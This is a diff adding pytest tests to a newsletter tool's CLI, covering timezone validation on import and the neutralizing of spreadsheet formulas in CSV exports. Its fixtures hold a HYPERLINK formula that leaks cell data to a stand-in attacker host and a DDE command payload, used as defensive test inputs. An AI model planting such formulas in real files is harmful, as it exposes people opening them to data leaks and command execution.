@@ -10,7 +10,9 @@ from pathlib import Path
 
 import pytest
 
+from newsletter.models import Status
 from newsletter.store import Store
+from newsletter.subscribers import add_subscriber, neutralize_cell, restore_cell
 
 
 def _add(run_cli, email: str, *options: str):
@@ -103,6 +105,10 @@ def test_invalid_address_is_refused_naming_it(run_cli, address):
     ("option", "value", "named"),
     [
         ("--timezone", "Mars/Olympus_Mons", "Mars/Olympus_Mons"),
+        # Folders of the timezone database, and a name too long for a file name.
+        ("--timezone", "Europe", "unknown timezone 'Europe'"),
+        ("--timezone", "America", "unknown timezone 'America'"),
+        ("--timezone", "x" * 300, "unknown timezone 'xxx"),
         ("--hour", "25", "25"),
         ("--hour", "-1", "-1"),
         ("--max-papers", "0", "0"),
@@ -236,6 +242,28 @@ def test_import_adds_good_rows_and_reports_bad_ones_by_line(run_cli, tmp_path: P
     assert by_email["carol@example.org"]["max_papers"] == 5
 
 
+def test_import_reports_a_timezone_folder_and_reads_the_rows_after_it(run_cli, tmp_path: Path):
+    path = _write_csv(
+        tmp_path / "people.csv",
+        "email,interests,timezone\n"
+        "ada@example.org,graph theory,Europe\n"  # line 2: a folder, not a timezone
+        f"bob@example.org,protein folding,{'x' * 300}\n"  # line 3: too long for a file name
+        "carol@example.org,knots,US\n"  # line 4
+        "dan@example.org,lattices,Europe/Berlin\n",
+    )
+
+    result = run_cli("subscribers", "import", str(path), "--json")
+
+    assert result.exit_code == 0, result.output
+    report = json.loads(result.stdout)
+    assert (report["added"], report["skipped"]) == (1, 3)
+    assert "line 2" in report["errors"][0] and "'Europe'" in report["errors"][0]
+    assert "line 3" in report["errors"][1] and "line 4" in report["errors"][2]
+    assert [(s["email"], s["timezone"]) for s in _list(run_cli)] == [
+        ("dan@example.org", "Europe/Berlin")
+    ]
+
+
 def test_import_without_email_header_is_refused(run_cli, tmp_path: Path):
     path = _write_csv(tmp_path / "people.csv", "ada@example.org,graph theory\n")
 
@@ -305,6 +333,58 @@ def test_export_import_round_trip_keeps_subscriber_status(run_cli, tmp_path: Pat
         "gone@example.org": "unsubscribed",
         "resting@example.org": "paused",
     }
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
+
+
+def test_export_neutralizes_formulas_and_import_takes_them_back_as_they_were(
+    run_cli, settings, tmp_path: Path
+):
+    """An unconfirmed web sign-up's interests are anyone's text: a spreadsheet opening the
+    export must not run them; the project's own import reads them back unchanged."""
+    with Store(settings.db) as store:
+        add_subscriber(
+            store, settings, "eve@example.org", interests=HYPERLINK, status=Status.PENDING
+        )
+        add_subscriber(store, settings, "=1+1@example.org", interests="+cmd|' /C calc'!A0")
+        add_subscriber(store, settings, "-2+3@example.org", interests="@SUM(1+1)")
+        add_subscriber(
+            store, settings, "'quote@example.org", interests="'=already quoted", muted_terms="-x"
+        )
+    exported = run_cli("subscribers", "export")
+    assert exported.exit_code == 0, exported.output
+
+    rows = list(csv.reader(io.StringIO(exported.stdout)))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert rows[0][:2] == ["eve@example.org", "'" + HYPERLINK]
+    assert [rows[1][0], rows[2][0], rows[3][0]] == [
+        "'=1+1@example.org",
+        "'-2+3@example.org",
+        "''quote@example.org",
+    ]
+    assert [rows[1][1], rows[2][1], rows[3][1], rows[3][6]] == [
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "''=already quoted",
+        "'-x",
+    ]
+
+    path = _write_csv(tmp_path / "export.csv", exported.stdout)
+    imported = run_cli("--db", "fresh.db", "subscribers", "import", str(path), "--json")
+    assert json.loads(imported.stdout)["added"] == 4
+    profile = ["email", "interests", "muted_terms", "status"]
+    original = [[s[k] for k in profile] for s in _list(run_cli)]
+    assert [[s[k] for k in profile] for s in _list(run_cli, "--db", "fresh.db")] == original
+    assert original[0] == ["eve@example.org", HYPERLINK, [], "pending"]
+
+
+@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "'", "''", "a=b"])
+def test_a_neutralized_cell_is_restored_exactly(value):
+    neutral = neutralize_cell(value)
+    assert neutral[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert restore_cell(neutral) == value
 
 
 def test_export_json_lists_every_subscriber(run_cli):
